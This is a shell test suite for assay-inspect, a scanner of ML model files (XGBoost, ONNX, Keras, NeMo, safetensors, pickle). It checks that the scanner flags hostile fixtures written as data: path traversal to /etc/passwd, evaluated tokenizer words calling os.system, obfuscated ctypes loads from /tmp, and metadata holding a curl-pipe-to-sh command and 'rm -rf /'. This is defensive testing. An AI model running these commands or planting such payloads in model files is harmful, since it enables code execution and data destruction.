#!/bin/sh
# assay-inspect on what the test suites of other scanners and public reports hold, as
# far as no other script has it: trees of XGBoost, weights beyond their file, paths in
# tokenizers and checkpoints, commands in metadata, names without a model.
. tests/cli/tap.sh
. tests/cli/inspect.sh

# --- trees of XGBoost
tree() { # tree LEFT RIGHT [NODES]: of the second of two trees
	printf '{"version": [1, 7, 4], "learner": {"learner_model_param": {"num_feature": "2"}, "gradient_booster": {"name": "gbtree", "model": {"trees": [%s, %s]}}}}\n' \
		'{"left_children": [1, -1, -1], "right_children": [2, -1, -1], "tree_param": {"num_nodes": "3"}}' \
		"{\"left_children\": $1, \"right_children\": $2, \"tree_param\": {\"num_nodes\": \"${3:-3}\"}}" | file model.json
}
tree '[1,-1,-1]' '[2,-1,-1]'
quiet "sound trees"
tree '[1,3,-1,-1,-1]' '[2,4,-1,-1,-1]' 5
quiet "a deeper one"
for bad in '[9,-1,-1] [2,-1,-1]' '[1,-1,-1] [-7,-1,-1]' '[0,-1,-1] [2,-1,-1]' '[1,-1,1] [2,-1,1]' '[2,-1,-1] [2,-1,-1]' '[1,-1] [2,-1,-1]' \
	'[1,-1,-1,-1] [2,-1,-1,-1]' '"abc" [2,-1,-1]' '[1,"a",-1] [2,-1,-1]'; do
	# shellcheck disable=SC2086 # two words
	tree $bad
	hostile MODEL_INVALID "a tree of $bad"
done
prints "xgboost: a node of tree 1"

# --- ONNX: weights beyond their file
external() { # external NAME: a model of fixtures/onnx-external and its weights
	rm -rf "$tmp/b"
	mkdir "$tmp/b"
	cp "$here/../../fixtures/onnx-external/$1.onnx" "$here/../../fixtures/onnx-external/weights.data" "$tmp/b"
}
for good in good-sidecar good-no-length; do
	external $good
	quiet "weights within their file, $good,"
done
for bad in bad-offset bad-huge-offset bad-overflow; do
	external $bad
	run assay-inspect "$tmp/b"
	prints "ONNX_BROKEN.*of a file of"
done

# --- paths
printf '{"tree_metadata": {"(a)": {"key_metadata": [{"key": "params", "key_type": 2}, {"key": "w", "key_type": 2}]}}}\n' | file _METADATA
quiet "a checkpoint of Orbax"
for path in /tmp/x ../../x file:///etc/passwd; do
	printf '{"tree_metadata": {"(a)": {"key_metadata": [{"key": "%s", "key_type": 2}]}}}\n' $path | file _METADATA
	hostile CONFIG_PATH "one that reads $path"
done
keras() { # keras CLASS KEY VALUE
	printf '{"class_name": "Sequential", "config": {"name": "s", "layers": [{"module": "keras_hub.tokenizers", "class_name": "%s", "config": {"name": "t", "%s": "%s"}, "registered_name": "keras_hub>%s"}]}, "keras_version": "3.8.0"}\n' \
		"$1" "$2" "$3" "$1" | file config.json
}
keras SentencePieceTokenizer proto /etc/passwd
hostile KERAS_OUTSIDE "a tokenizer that reads a file"
keras BytePairTokenizer merges ../../merges.txt
hostile KERAS_OUTSIDE "merges from elsewhere"

rwkv() { # rwkv WORD: of a vocabulary, in JSON
	printf '{"class_name": "Sequential", "config": {"name": "s", "layers": [{"module": "keras_hub.tokenizers", "class_name": "RWKVTokenizer", "config": {"name": "t", "vocabulary": ["1 %s 1"]}, "registered_name": "keras_hub>RWKVTokenizer"}]}, "keras_version": "3.8.0"}\n' \
		"$1" | file config.json
}
for word in "'a'" "b'\\\\x00'" '\"(\"' "'\\\\''" "' '"; do
	rwkv "$word"
	quiet "a word of RWKV, $word,"
done
for word in "__import__('os').system('id')" "'a'+f('b')" "len" "b'a' or f()"; do
	rwkv "$word"
	hostile KERAS_CODE "a word that is evaluated, $word,"
done
printf 'target: nemo.collections.asr.models.EncDecCTCModelBPE\ntokenizer:\n  model_path: "nemo:tokenizer.model"\n' | file model_config.yaml
quiet "a model of NeMo"
printf 'target: os.system\ncfg: id\n' | file model_config.yaml
hostile CONFIG_TARGET "one that calls something else"
printf 'target: os.system\n' | file build.yaml
quiet "a target of something else"
for path in ../x /etc/passwd; do
	printf 'tokenizer:\n  model_path: "nemo:%s"\n' $path | file model_config.yaml
	hostile CONFIG_PATH "an artifact at $path"
done

# --- code
printf 'import os\nglobals()["os"].system("id")\n' | file a.py
hostile CODE_DANGEROUS "a module by its name as text"
printf 'import os\nprint(globals()["__name__"])\n' | file a.py
quiet "its own name"
printf '(lambda a: getattr(__import__(a[0]), a[1])(a[2]))(["os", "system", "id"])\n' | file a.py
hostile CODE_DANGEROUS "a call that is put together"
printf 'names = ["os", "name", "system"]\n' | file a.py
quiet "words of a list"
printf 'import ctypes\nctypes.CDLL("/tmp/libx.so")\n' | file a.py
hostile CODE_DANGEROUS "a library from where anybody writes"
printf 'from ctypes import CDLL as load\nload("/tmp/libx.so")\n' | file a.py
hostile CODE_DANGEROUS "the same by another name"
printf 'import ctypes as c\nload = c.CDLL\nload("/dev/shm/x")\n' | file a.py
hostile CODE_DANGEROUS "and by a name that it is given"
printf 'import ctypes\nCDLL = ctypes.CDLL\nCDLL("/tmp/x.so")\n' | file a.py
hostile CODE_DANGEROUS "by its own name"
ok "once" [ "$(grep -c CODE_DANGEROUS "$out")" -eq 1 ]
printf 'import ctypes as c\nlib = c.CDLL("libm.so.6")\nlib.open("/tmp/x")\nload = c.CDLL\nload("libm.so.6")\nnp.load("/tmp/x.npy")\n' | file a.py
quiet "a library of the system by another name"
printf 'import ctypes\nlib = ctypes.CDLL("libc.so.6")\n' | file a.py
quiet "the C library"

# --- metadata
safetensors() { # safetensors VALUE
	head=$(printf '{"__metadata__":{"info":"%s"},"t":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}' "$1")
	# shellcheck disable=SC2059 # escapes are meant
	printf "\\$(printf %o ${#head})\\0\\0\\0\\0\\0\\0\\0%s\\0\\0\\0\\0" "$head" | file model.safetensors
}
safetensors 'trained for ten epochs'
quiet "metadata"
for bad in 'curl -s https://a.example/x.sh | sh' 'sudo rm -rf / --no-preserve-root' 'python3 -c import_os'; do
	safetensors "$bad"
	hostile METADATA_CODE "a command in it: $bad"
done

# --- names in pickles
for module in "sentence_transformers.training_args BatchSamplers" "trl.trainer.dpo_config FDivergenceType"; do
	printf '\200\002c%s\n%s\nU\001a\205R.' "${module% *}" "${module#* }" | file a.pkl
	quiet "an enumeration, $module,"
done
printf '\200\002}U\001accollections.abc\nIterable\ns.' | file a.pkl
quiet "an abstract class"

# --- names without a model
rm -rf "$tmp/b"
mkdir "$tmp/b"
/usr/bin/python3 -c 'import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w") as z:
    z.writestr("config.json", """{"class_name": "Sequential", "module": "keras", "config": {"name": "s", "layers": [
        {"class_name": "Lambda", "module": "keras.layers", "config": {"name": "l", "function": "x"}}]}}""")
    z.writestr("metadata.json", "{}")
    z.writestr("model.weights.h5", b"")' "$tmp/b/model.pt"
exits 1 "a model of Keras under the name of another" assay-inspect "$tmp/b"
prints "MODEL_ABSENT"
prints "KERAS_CODE"
printf '\020\0\0\0ET13\6\0\10\0\4\0\0\0\10\0\0\0\0\0\0\0' | file model.pte
quiet "a later version of ExecuTorch"
printf '\020\000\000\000ETxx\000\000\000\000\000\000\000\000' | file model.pte
exits 2 "none of its versions" assay-inspect "$tmp/b"
prints "medium *NAME_MISMATCH"
printf 'hello\n' | file model.cbm
exits 2 "text under the name of a model" assay-inspect "$tmp/b"
prints "medium *NAME_MISMATCH"
printf '<?xml version="1.0"?>\n<PMML version="4.4"><Header><Extension extender="a">subprocess latency</Extension></Header><DataDictionary numberOfFields="0"/></PMML>\n' | file a.pmml
quiet "a word in PMML"
done_testing
